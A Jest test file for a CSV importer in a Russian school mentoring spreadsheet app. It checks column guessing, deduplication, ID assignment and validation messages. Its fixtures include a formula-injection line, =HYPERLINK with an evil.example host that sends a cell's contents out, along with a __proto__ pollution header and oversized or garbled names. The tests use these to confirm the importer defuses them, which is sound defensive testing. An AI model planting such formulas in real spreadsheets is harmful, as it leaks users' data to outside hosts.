import { checkBase } from "../../src/app/checkBase";
import { importPeople, previewImport } from "../../src/app/importPeople";
import { initBase } from "../../src/app/initBase";
import { memoryPorts } from "../support/memory";

const FILE = [
  "ФИО;Категория;Стаж;Компетенции;Формы наставничества;E-mail;Телефон;Согласие",
  "Петрова Анна Сергеевна;педагог;15;ОГЭ;педагог – педагог;petrova@s.ru;+7 914 123-45-67;да",
  "Орлова Вера Ивановна;педагог;пять;классное руководство;педагог – педагог;orlova@s.ru;;да",
  '=HYPERLINK("http://evil.example/?"&B2);педагог;3;x;педагог – педагог;evil@s.ru;;да',
].join("\r\n");

function school() {
  const m = memoryPorts();
  initBase(m.ports);
  return m;
}

describe("import from CSV (use case)", () => {
  test("preview guesses the matches and writes nothing", () => {
    const { ports, sheets } = school();
    const before = sheets.calls;
    const preview = previewImport(ports, "mentors", FILE);
    expect(preview.rowCount).toBe(3);
    expect(preview.mapping).toEqual([
      "fullName",
      "category",
      "experienceYears",
      "competencies",
      "forms",
      "email",
      "phone",
      "consent",
    ]);
    expect(preview.columns.find((c) => c.key === "fullName")).toEqual({
      key: "fullName",
      header: "ФИО",
      required: true,
    });
    expect(sheets.log.slice(before).some((m) => m.startsWith("write") || m === "appendRows")).toBe(false);
  });

  test("imports below what was typed, gives ids, and a second import of the same file adds nobody", () => {
    const { ports, sheets } = school();
    sheets.type("mentors", { id: "НС-0001", fullName: "Смирнова Ольга Петровна", email: "smirnova@s.ru" });
    const mapping = previewImport(ports, "mentors", FILE).mapping;
    const r = importPeople(ports, "mentors", FILE, mapping);
    expect(r).toMatchObject({
      tab: "Наставники",
      added: 3,
      firstRow: 3,
      lastRow: 5,
      idsAssigned: 3,
      skipped: [],
    });
    expect(sheets.cell("mentors", 2, "fullName").value).toBe("Смирнова Ольга Петровна");
    expect([3, 4, 5].map((row) => sheets.cell("mentors", row, "id").value)).toEqual([
      "НС-0002",
      "НС-0003",
      "НС-0004",
    ]);
    expect(sheets.cell("mentors", 3, "consent").value).toBe(true);
    expect(sheets.cell("mentors", 4, "competencies").value).toBe("классное руководство");

    const again = importPeople(ports, "mentors", FILE, mapping);
    expect(again.added).toBe(0);
    expect(again.skipped.map((s) => s.reason)).toEqual([
      "уже есть на листе (строка 3)",
      "уже есть на листе (строка 4)",
      "уже есть на листе (строка 5)",
    ]);

    const report = checkBase(ports)!;
    expect(
      report.problems.some(
        (p) => p.row === 4 && p.column === "experienceYears" && p.message.includes("«пять»"),
      ),
    ).toBe(true);
  });

  test("no base yet, a wrong column key, a busy lock: clear messages, nothing written", () => {
    const empty = memoryPorts();
    expect(() => previewImport(empty.ports, "mentors", FILE)).toThrow(
      "Сначала выполните «Наставничество → Создать / обновить базу»",
    );
    const { ports, lock, sheets } = school();
    expect(() => importPeople(ports, "mentors", FILE, ["id", null])).toThrow("Неизвестный столбец «id»");
    lock.busy = true;
    expect(() => importPeople(ports, "mentors", FILE, ["fullName"])).toThrow("Повторите импорт через минуту");
    expect(sheets.tabs.get("mentors")!.grid.length).toBe(1);
  });

  test("hostile rows: each skipped or noted with its line and column, the others imported", () => {
    const { ports, sheets } = school();
    const long = "Я".repeat(50_000);
    const hostile = [
      "ФИО;__proto__;Дата вхождения в программу;E-mail;Согласие",
      "Петрова Анна Сергеевна;x;01.09.2025;petrova@s.ru;да",
      "Орлова Вера Ивановна;x;31.12.9999;orlova@s.ru;да",
      `${long};x;;long@s.ru;да`,
      "Иванов Иван\u0000\uFFFDИванович;x;;ivanov@s.ru;да",
      '=HYPERLINK("http://evil.example");x;;evil@s.ru;да',
      "Сидоров Пётр Петрович;__proto__;2026-03-01;sidorov@s.ru;да",
    ].join("\n");
    const preview = previewImport(ports, "mentors", hostile);
    expect(preview.mapping).toEqual(["fullName", null, "entryDate", "email", "consent"]);
    const r = importPeople(ports, "mentors", hostile, preview.mapping);
    expect(r.added).toBe(3);
    expect(r.skipped).toEqual([
      {
        line: 3,
        reason: expect.stringMatching(
          /^в столбце «Дата вхождения в программу» дата 31\.12\.9999 вне разумных пределов .*опечатка в годе\. Исправьте эту строку в файле/,
        ),
      },
      { line: 4, reason: expect.stringMatching(/^в столбце «ФИО» 50000 знаков, а допустимо не больше 1000/) },
      {
        line: 5,
        reason: expect.stringMatching(
          /^в столбце «ФИО» непечатаемые символы: вероятно, текст в другой кодировке/,
        ),
      },
    ]);
    for (const s of r.skipped) expect(s.reason).not.toContain(long.slice(0, 20));
    expect(r.notes).toEqual([
      {
        line: 6,
        reason: expect.stringMatching(
          /^в столбце «ФИО» значение начинается как формула; оно записано как текст/,
        ),
      },
    ]);
    const names = [2, 3, 4].map((row) => String(sheets.cell("mentors", row, "fullName").value));
    expect(names[0]).toBe("Петрова Анна Сергеевна");
    expect(names[1]).toContain("HYPERLINK");
    expect(names[2]).toBe("Сидоров Пётр Петрович");
    expect(sheets.cell("mentors", 5, "fullName").value).toBe("");
    expect(({} as Record<string, unknown>).x).toBeUndefined();

    // What was written, the check does not reject as out of limits: nothing it would mark unsaid.
    const report = checkBase(ports)!;
    expect(
      report.problems.filter(
        (p) =>
          p.table === "mentors" &&
          /знаков, а здесь допустимо|вне разумных пределов|такой даты здесь быть не может/.test(p.message),
      ),
    ).toEqual([]);

    // Fixed in the file, the skipped rows come in by a second import; the others are not added twice.
    const fixed = hostile.replace("31.12.9999", "31.12.2025");
    const again = importPeople(ports, "mentors", fixed, preview.mapping);
    expect(again.added).toBe(1);
    expect(sheets.cell("mentors", 5, "fullName").value).toBe("Орлова Вера Ивановна");
  });
});

describe("import into the staff register (use case)", () => {
  const HR = [
    "Фамилия Имя Отчество;Должность;Дата приема;Стаж педагогический;Стаж общий;Категория;Дата увольнения;Причина увольнения;Электронная почта",
    "Петрова Анна Сергеевна;учитель математики;01.09.2024;1;3;без категории;;;petrova@s.ru",
    "Орлова Вера Ивановна;учитель истории;15.08.1988 0:00;36;37;высшая категория;;;",
    "Лебедев Пётр Ильич;учитель физики;2019-09-02;6;6;первая;31.05.2025;ушёл из профессии;",
    "Смирнова Ольга Петровна;учитель химии;;;;;;;",
  ].join("\r\n");

  test("the dialog offers the register's columns; people on it are skipped; new rows get СТ- ids", () => {
    const { ports, sheets } = school();
    sheets.type("staff", { id: "СТ-0001", fullName: "Смирнова Ольга Петровна", position: "Учитель химии" });
    const preview = previewImport(ports, "staff", HR);
    expect(preview.tab).toBe("Педагогический коллектив");
    expect(preview.mapping).toEqual([
      "fullName",
      "position",
      "hireDate",
      "teachingYears",
      "totalYears",
      "qualification",
      "leaveDate",
      "leaveReason",
      "email",
    ]);
    expect(preview.columns.find((c) => c.key === "position")).toEqual({
      key: "position",
      header: "Должность",
      required: true,
    });
    const r = importPeople(ports, "staff", HR, preview.mapping);
    expect(r).toMatchObject({
      tab: "Педагогический коллектив",
      added: 3,
      firstRow: 3,
      lastRow: 5,
      idsAssigned: 3,
    });
    expect(r.skipped).toEqual([{ line: 5, reason: "уже есть на листе (строка 2)" }]);
    expect([3, 4, 5].map((row) => sheets.cell("staff", row, "id").value)).toEqual([
      "СТ-0002",
      "СТ-0003",
      "СТ-0004",
    ]);
    expect(sheets.cell("staff", 4, "hireDate").value).toBe("15.08.1988");
    expect(sheets.cell("staff", 4, "qualification").value).toBe("высшая");
    expect(sheets.cell("staff", 5, "leaveReason").value).toBe("ушёл из профессии");
    expect(sheets.cell("staff", 2, "position").value).toBe("Учитель химии");

    // The register's own check accepts what came in (1988 is a career date; the leaver has a reason).
    const report = checkBase(ports)!;
    expect(report.problems.filter((p) => p.table === "staff")).toEqual([]);

    // A second import of the same file adds nobody.
    const again = importPeople(ports, "staff", HR, preview.mapping);
    expect(again.added).toBe(0);
    expect(again.skipped.map((s) => s.line)).toEqual([2, 3, 4, 5]);
  });

  test("a column the curator changes in the dialog is honoured; an unknown tab is refused", () => {
    const { ports, sheets } = school();
    const file = "ФИО;Стаж;Должность\nПетрова Анна Сергеевна;2;учитель";
    const guessed = previewImport(ports, "staff", file).mapping;
    expect(guessed).toEqual(["fullName", null, "position"]);
    importPeople(ports, "staff", file, ["fullName", "teachingYears", "position"]);
    expect(sheets.cell("staff", 2, "teachingYears").value).toBe("2");
    expect(() => previewImport(ports, "pairs" as never, file)).toThrow(
      "Импорт возможен только на листы «Наставники», «Наставляемые» и «Педагогический коллектив»",
    );
  });
});
